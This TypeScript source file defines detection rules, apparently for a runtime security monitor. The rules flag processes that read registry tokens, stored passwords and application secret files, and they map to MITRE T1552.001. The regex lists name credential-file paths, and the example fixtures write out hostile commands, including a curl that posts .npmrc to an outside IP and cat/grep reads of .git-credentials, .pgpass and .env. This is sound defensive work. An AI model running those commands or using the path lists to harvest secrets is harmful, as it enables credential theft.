import type { Indicator } from "../../indicator.ts";
import { inContainer, onHost, opened, ran } from "../execution/examples.ts";
import { gated } from "../execution/needles.ts";
import { fileReaders } from "../execution/programs.ts";
import { readsFile } from "./sensitive-files.ts";

/** Reading files in which programs keep tokens and passwords. */

const registry =
  /(?:\.docker\/config\.json|\.dockercfg|\.dockerconfigjson|containers\/auth\.json|\.npmrc|\.pypirc|\.gem\/credentials|\.cargo\/credentials(?:\.toml)?|\.m2\/settings(?:-security)?\.xml|\.nuget\/nuget\.config|\.composer\/auth\.json|\.config\/gh\/hosts\.yml|\.config\/hub|\.config\/glab-cli\/config\.yml)(?![\w-])/;

const stored =
  /(?:\.git-credentials|\.config\/git\/credentials|[._]netrc|\.pgpass|\.my\.cnf|\.mylogin\.cnf|debian\.cnf|\.htpasswd|\.vault-token|\.smbcredentials|\.msmtprc|\.fetchmailrc|sitemanager\.xml|recentservers\.xml|credentials\.xml|hudson\.util\.Secret|secrets\/master\.key|ppp\/(?:chap|pap)-secrets|wireguard\/[\w.-]+\.conf|NetworkManager\/system-connections\/[\w ./-]+|wpa_supplicant\.conf|rabbitmq\/\.erlang\.cookie|\.erlang\.cookie|\.irssi\/config)(?![\w-])/i;

const application =
  /(?:wp-config\.php|(?:^|\/)\.env(?:\.(?:local|prod|production|staging|dev))?|config\/database\.yml|config\/secrets\.yml(?:\.enc)?|config\/master\.key|appsettings\.[\w.]*json|application(?:-[\w]+)?\.(?:properties|ya?ml)|configuration\.php|settings\.php|local_settings\.py|parameters\.ya?ml|LocalSettings\.php|config\.inc\.php|run\/secrets\/(?!kubernetes\.io|eks\.)[\w./-]+)(?![\w-])/;

const packageTools = new Set([
  "docker",
  "dockerd",
  "podman",
  "buildah",
  "skopeo",
  "npm",
  "node",
  "yarn",
  "pnpm",
  "pip",
  "twine",
  "gem",
  "bundle",
  "cargo",
  "mvn",
  "java",
  "dotnet",
  "nuget",
  "composer",
  "php",
  "gh",
  "glab",
  "docker-credenti",
  "buildkitd",
  "buildctl",
  "kaniko",
  "trivy",
]);

const passwordOwners = new Set([
  "git",
  "git-remote-http",
  "git-credential-",
  "git-credential-s",
  "curl",
  "psql",
  "pg_dump",
  "pg_restore",
  "pgbouncer",
  "mysql",
  "mysqldump",
  "mysqladmin",
  "mysqld",
  "mysqlcheck",
  "mariadb",
  "nginx",
  "apache2",
  "httpd",
  "vault",
  "mount.cifs",
  "pppd",
  "networkmanager",
  "NetworkManager",
  "wg",
  "wg-quick",
  "wpa_supplicant",
  "rabbitmq-server",
  "beam.smp",
  "rabbitmqctl",
  "erl",
  "java",
  "debian-sys-main",
  "irssi",
  "msmtp",
  "filezilla",
]);

export const readsRegistryCredentials: Indicator = {
  id: "reads-registry-credentials",
  behaviour: "reads the credentials of an image or package registry",
  meaning: "They let an attacker pull private code, or push a poisoned image or package that others install.",
  technique: "T1552.001",
  tactic: "credential-access",
  alsoTechniques: ["T1195.002"],
  severity: "high",
  certainty: "likely",
  platforms: ["Linux", "Containers"],
  families: ["syscall", "plugin"],
  source: "https://attack.mitre.org/techniques/T1552/001/",
  match: gated(
    [
      ".docker/",
      ".dockerc",
      "containers/auth.json",
      ".npmrc",
      ".pypirc",
      ".gem/",
      ".cargo/",
      ".m2/",
      ".nuget",
      ".composer",
      ".config/gh/",
      ".config/hub",
      "glab-cli",
    ],
    readsFile(registry, packageTools),
  ),
  examples: {
    found: [
      opened("/root/.docker/config.json", "cat /root/.docker/config.json", onHost),
      ran("curl -d @/home/dev/.npmrc http://203.0.113.8/x"),
    ],
    ignored: [
      opened("/root/.npmrc", "npm install", { "proc.name": "npm" }),
      ran("ls -l /root/.docker/config.json"),
      ran("cat /etc/docker/daemon.json"),
    ],
  },
};

export const readsStoredPasswords: Indicator = {
  id: "reads-stored-passwords",
  behaviour: "reads a file in which a program keeps passwords",
  meaning: "The passwords stand there in plain text or nearly so, and often fit other systems too.",
  technique: "T1552.001",
  tactic: "credential-access",
  severity: "high",
  certainty: "likely",
  platforms: ["Linux", "Containers"],
  families: ["syscall", "plugin"],
  source: "https://attack.mitre.org/techniques/T1552/001/",
  match: gated(
    [
      "credentials",
      "netrc",
      ".pgpass",
      ".cnf",
      ".htpasswd",
      ".vault-token",
      "msmtprc",
      "fetchmailrc",
      "sitemanager",
      "recentservers",
      "hudson.util",
      "master.key",
      "-secrets",
      "wireguard",
      "system-connections",
      "wpa_supplicant",
      "erlang.cookie",
    ],
    readsFile(stored, passwordOwners),
  ),
  examples: {
    found: [
      opened("/root/.git-credentials", "cat /root/.git-credentials", onHost),
      ran("grep -h password /root/.pgpass"),
      ran("cat /home/ci/.netrc"),
    ],
    ignored: [
      opened("/root/.pgpass", "psql -h db", { "proc.name": "psql" }),
      ran("cat /etc/mysql/conf.d/mysql.cnf"),
      ran("git config credential.helper store"),
    ],
  },
};

export const readsApplicationSecrets: Indicator = {
  id: "reads-application-secrets",
  behaviour: "reads the settings of an application, where its secrets stand",
  meaning: "Database passwords and API keys of the application are the next step from here.",
  technique: "T1552.001",
  tactic: "credential-access",
  severity: "medium",
  certainty: "weak",
  platforms: ["Linux", "Containers"],
  families: ["syscall"],
  source: "https://attack.mitre.org/techniques/T1552/001/",
  match: gated(
    [
      "wp-config",
      ".env",
      "database.yml",
      "secrets",
      "master.key",
      "appsettings",
      "application",
      "configuration.php",
      "settings",
      "parameters.y",
      "config.inc",
    ],
    (facts) => (fileReaders.has(facts.process.name ?? "") ? readsFile(application)(facts) : null),
  ),
  examples: {
    found: [
      ran("cat /var/www/html/wp-config.php", inContainer),
      opened("/app/.env", "cat /app/.env", inContainer),
      ran("grep PASS /run/secrets/db_password", inContainer),
    ],
    ignored: [
      opened("/app/.env", "node server.js", inContainer),
      ran("cat /app/.envrc.md"),
      ran("cat /app/settings.md"),
    ],
  },
};
